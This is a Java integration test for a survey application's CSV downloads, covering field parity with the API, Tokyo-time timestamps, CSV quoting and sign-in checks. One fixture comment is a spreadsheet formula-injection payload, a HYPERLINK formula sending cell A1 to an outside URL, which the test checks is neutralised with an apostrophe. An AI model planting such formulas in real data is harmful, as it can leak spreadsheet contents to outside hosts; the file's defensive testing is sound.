package org.kizuna.web.survey;

import static org.assertj.core.api.Assertions.assertThat;
import static org.kizuna.web.CsvDownloads.csvFile;
import static org.kizuna.web.CsvDownloads.leadsToSignIn;
import static org.kizuna.web.CsvDownloads.notFoundAsItsPage;
import static org.kizuna.web.survey.SurveyFixtures.execute;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import de.siegmar.fastcsv.reader.NamedCsvRecord;
import java.io.IOException;
import java.math.BigDecimal;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.kizuna.metrics.Language;
import org.kizuna.store.Workspace;
import org.kizuna.store.survey.Audience;
import org.kizuna.store.survey.Invitation;
import org.kizuna.store.survey.InvitationRequest;
import org.kizuna.store.survey.NewSurvey;
import org.kizuna.store.survey.SurveyCollection;
import org.kizuna.store.survey.SurveyType;
import org.kizuna.web.Browser;
import org.kizuna.web.GoldenWorkspace;
import org.kizuna.web.ScratchServerTest;
import org.springframework.beans.factory.annotation.Value;

/**
 * The survey list and a survey's answers downloaded as CSV files for Excel by a viewer, who sees both pages,
 * over a copy of the golden workspace (Asia/Tokyo) with two surveys of the test's own. dl-nps is asked of c01,
 * c02, c03 and c04 on 1 March 2025 and answered by three of them; dl-many has 60 answers, more than the 50
 * the survey's page lists.
 */
@ScratchServerTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class SurveyDownloadsTest {

    /** A comment with a comma, quotes, a line break and Japanese, as a customer may write one. */
    private static final String COMMENT = "速い, \"とても\" 便利\n次も使います";

    /** A comment a spreadsheet would read as a formula making a link, as a respondent may write to attack. */
    private static final String FORMULA = "=HYPERLINK(\"https://example.com/?\"&A1, \"Fast\")";

    private static final Pattern ANSWER_ROW = Pattern.compile("<td class=\"comment\"");

    @Value("${local.server.port}")
    int port;

    @Value("${" + ScratchServerTest.folder + "}")
    Path folder;

    /** The response ids of dl-nps's answers, by customer. */
    private final Map<String, String> responseIds = new HashMap<>();

    private Browser viewer;

    @BeforeAll
    void twoSurveysWithAnswers() {
        Workspace workspace = Workspace.open(folder);
        SurveyCollection asked = new SurveyCollection(workspace, at("2025-03-01T00:00:00Z"));
        asked.create(NewSurvey.of(
                Optional.of("dl-nps"),
                SurveyType.NPS,
                Optional.empty(),
                Optional.empty(),
                Optional.empty(),
                Optional.of("support"),
                Optional.of("サポートを、友人に薦めますか？"),
                Optional.of("Would you, honestly, recommend our support?")));
        List<Invitation> invited = asked.invite(new InvitationRequest(
                        "dl-nps", Audience.customers(List.of("c01", "c02", "c03", "c04")), 14, Optional.empty(), false))
                .invited();
        assertThat(invited).extracting(Invitation::customerId).containsExactlyInAnyOrder("c01", "c02", "c03", "c04");
        answer(workspace, invited, "c01", "2025-03-02T01:02:03Z", 10, COMMENT, Language.JA);
        answer(workspace, invited, "c02", "2025-03-03T00:00:00Z", 6, null, Language.JA);
        answer(workspace, invited, "c03", "2025-03-04T12:30:00Z", 9, FORMULA, Language.EN);

        new SurveyCollection(workspace)
                .create(NewSurvey.of(
                        Optional.of("dl-many"),
                        SurveyType.TRUST,
                        Optional.empty(),
                        Optional.empty(),
                        Optional.empty(),
                        Optional.empty(),
                        Optional.empty(),
                        Optional.empty()));
        // m01 … m60, hour i of 1 January 2024 in Tokyo, score 1 + i mod 5.
        execute(
                folder,
                "INSERT INTO survey_responses (response_id, survey_id, customer_id, answered_at, score)"
                        + " SELECT 'm' || lpad(i::VARCHAR, 2, '0'), 'dl-many', 'c07',"
                        + " TIMESTAMPTZ '2024-01-01 00:00:00+09:00' + to_hours(i), 1 + i % 5"
                        + " FROM range(1, 61) t(i)");
        viewer = Browser.signedIn(port, GoldenWorkspace.VIEWER, GoldenWorkspace.PASSWORD);
    }

    private void answer(
            Workspace workspace,
            List<Invitation> invited,
            String customer,
            String when,
            int score,
            String comment,
            Language language) {
        Invitation invitation = invited.stream()
                .filter(i -> i.customerId().equals(customer))
                .findFirst()
                .orElseThrow();
        String id = new SurveyCollection(workspace, at(when))
                .answer(
                        invitation.token(),
                        BigDecimal.valueOf(score),
                        Optional.ofNullable(comment),
                        Optional.of(language))
                .responseId();
        responseIds.put(customer, id);
    }

    /**
     * The list: the golden workspace's 8 surveys and the test's 2, each with the fields of the API's JSON.
     * dl-nps: 4 invited, 3 answered → response rate 3 ÷ 4 × 100 = 75.00 %; NPS over 10, 6, 9: promoters 2
     * (10, 9), detractors 1 (6) → 100 × (2 − 1) ÷ 3 = 33.33 points over 3 answers. dl-many: 60 answers without
     * invitations, so no rate; trust has no score of its own.
     */
    @Test
    void theListDownloadsWithTheFieldsOfTheApi() throws IOException {
        HttpResponse<byte[]> response = viewer.download("/surveys.csv");

        List<NamedCsvRecord> rows = csvFile(response, "kizuna-surveys.csv");
        assertThat(rows.get(0).getHeader())
                .containsExactly(
                        "survey_id",
                        "type",
                        "scale_min",
                        "scale_max",
                        "satisfied_threshold",
                        "touchpoint",
                        "question_ja",
                        "question_en",
                        "collected",
                        "invitations",
                        "responses",
                        "response_rate",
                        "score_metric",
                        "score_value",
                        "score_unit",
                        "score_denominator");
        assertThat(rows).hasSize(8 + 2);
        assertThat(row(rows, "survey_id", "dl-nps").getFieldsAsMap())
                .containsEntry("type", "nps")
                .containsEntry("scale_min", "0")
                .containsEntry("scale_max", "10")
                .containsEntry("satisfied_threshold", "")
                .containsEntry("touchpoint", "support")
                .containsEntry("question_ja", "サポートを、友人に薦めますか？")
                .containsEntry("question_en", "Would you, honestly, recommend our support?")
                .containsEntry("collected", "true")
                .containsEntry("invitations", "4")
                .containsEntry("responses", "3")
                .containsEntry("response_rate", "75.00")
                .containsEntry("score_metric", "nps")
                .containsEntry("score_value", "33.33")
                .containsEntry("score_unit", "points")
                .containsEntry("score_denominator", "3");
        assertThat(row(rows, "survey_id", "dl-many").getFieldsAsMap())
                .containsEntry("type", "trust")
                .containsEntry("invitations", "0")
                .containsEntry("responses", "60")
                .containsEntry("response_rate", "")
                .containsEntry("score_metric", "")
                .containsEntry("score_value", "");

        // Every row holds what the API says of its survey, field by field.
        JsonNode api = new ObjectMapper().readTree(viewer.get("/api/v1/surveys").body());
        assertThat(api.get("surveys")).hasSize(rows.size());
        for (JsonNode survey : api.get("surveys")) {
            NamedCsvRecord row = row(rows, "survey_id", survey.get("survey_id").asText());
            survey.properties().forEach(field -> {
                if (field.getKey().equals("score")) {
                    for (String part : List.of("metric", "value", "unit", "denominator")) {
                        sameValue(row, "score_" + part, field.getValue().path(part));
                    }
                } else {
                    sameValue(row, field.getKey(), field.getValue());
                }
            });
        }
    }

    /**
     * Every answer to dl-nps, oldest first, the times in Tokyo (UTC+9): 01:02:03 UTC on 2 March is 10:02:03,
     * midnight UTC on 3 March is 09:00, 12:30 UTC on 4 March is 21:30. Nobody had contacts, so no user ids; c04
     * did not answer. The comment with a comma, quotes, a line break and Japanese comes back as it was given;
     * c03's, which Excel would read as a formula, behind an apostrophe that makes it text.
     */
    @Test
    void everyAnswerDownloadsWithItsCommentAsGiven() {
        HttpResponse<byte[]> response = viewer.download("/surveys/dl-nps/answers.csv");

        List<NamedCsvRecord> rows = csvFile(response, "dl-nps-answers.csv");
        assertThat(rows.get(0).getHeader())
                .containsExactly(
                        "response_id", "answered_at", "customer_id", "user_id", "score", "comment", "language");
        assertThat(rows)
                .extracting(r -> String.join(
                        " | ",
                        r.getField("response_id"),
                        r.getField("answered_at"),
                        r.getField("customer_id"),
                        r.getField("user_id"),
                        r.getField("score"),
                        r.getField("language")))
                .containsExactly(
                        responseIds.get("c01") + " | 2025-03-02T10:02:03+09:00 | c01 |  | 10 | ja",
                        responseIds.get("c02") + " | 2025-03-03T09:00:00+09:00 | c02 |  | 6 | ja",
                        responseIds.get("c03") + " | 2025-03-04T21:30:00+09:00 | c03 |  | 9 | en");
        assertThat(rows).extracting(r -> r.getField("comment")).containsExactly(COMMENT, "", "'" + FORMULA);
        // Quoted as CSV quotes: the whole field in quotes, each quote doubled, the line break kept inside.
        assertThat(new String(response.body(), StandardCharsets.UTF_8)).contains("\"速い, \"\"とても\"\" 便利\n次も使います\"");
    }

    /**
     * dl-many's page lists the latest 50 answers; the download has all 60, m01 … m60 in time order. m07 was
     * answered at hour 7 of 1 January 2024 in Tokyo with 1 + 7 mod 5 = 3.
     */
    @Test
    void theDownloadHasEveryAnswerNotOnlyTheLatest() {
        String page = viewer.get("/surveys/dl-many?lang=en").body();
        Matcher listed = ANSWER_ROW.matcher(page);
        int shown = 0;
        while (listed.find()) {
            shown++;
        }
        assertThat(shown).isEqualTo(50);

        List<NamedCsvRecord> rows = csvFile(viewer.download("/surveys/dl-many/answers.csv"), "dl-many-answers.csv");
        List<String> expected = new ArrayList<>();
        for (int i = 1; i <= 60; i++) {
            expected.add(String.format("m%02d", i));
        }
        assertThat(rows).extracting(r -> r.getField("response_id")).containsExactlyElementsOf(expected);
        assertThat(row(rows, "response_id", "m07").getFieldsAsMap())
                .containsEntry("answered_at", "2024-01-01T07:00:00+09:00")
                .containsEntry("customer_id", "c07")
                .containsEntry("score", "3")
                .containsEntry("comment", "");
    }

    @Test
    void thePagesLinkToTheirDownloadsInBothLanguages() {
        assertThat(viewer.get("/surveys?lang=en").body()).contains("href=\"/surveys.csv\"", "Download the list (CSV)");
        assertThat(viewer.get("/surveys?lang=ja").body()).contains("一覧をダウンロード（CSV）");
        assertThat(viewer.get("/surveys/dl-nps?lang=en").body())
                .contains("href=\"/surveys/dl-nps/answers.csv\"", "Download every answer (CSV)");
        assertThat(viewer.get("/surveys/dl-nps?lang=ja").body()).contains("すべての回答をダウンロード（CSV）");
    }

    @Test
    void anUnknownSurveyIs404AsItsPageIs() {
        HttpResponse<String> page = viewer.get("/surveys/no-such-survey?lang=en");
        HttpResponse<String> answers = viewer.get("/surveys/no-such-survey/answers.csv?lang=en");

        notFoundAsItsPage(page, answers, "no-such-survey");
    }

    @Test
    void withoutSignInTheDownloadsLeadToTheSignInPage() {
        for (String path : List.of("/surveys.csv", "/surveys/dl-nps/answers.csv")) {
            leadsToSignIn(new Browser(port).download(path), path);
        }
    }

    private static NamedCsvRecord row(List<NamedCsvRecord> rows, String column, String value) {
        return rows.stream()
                .filter(r -> r.getField(column).equals(value))
                .findFirst()
                .orElseThrow(() -> new AssertionError("no row with " + column + " " + value));
    }

    /** The cell holds the JSON's value: empty for null, the same number, or the same text. */
    private static void sameValue(NamedCsvRecord row, String column, JsonNode value) {
        String cell = row.getField(column);
        String what = row.getField("survey_id") + " " + column;
        if (value.isNull() || value.isMissingNode()) {
            assertThat(cell).as(what).isEmpty();
        } else if (value.isNumber()) {
            assertThat(new BigDecimal(cell)).as(what).isEqualByComparingTo(value.decimalValue());
        } else {
            assertThat(cell).as(what).isEqualTo(value.asText());
        }
    }

    private static Clock at(String instant) {
        return Clock.fixed(Instant.parse(instant), ZoneOffset.UTC);
    }
}
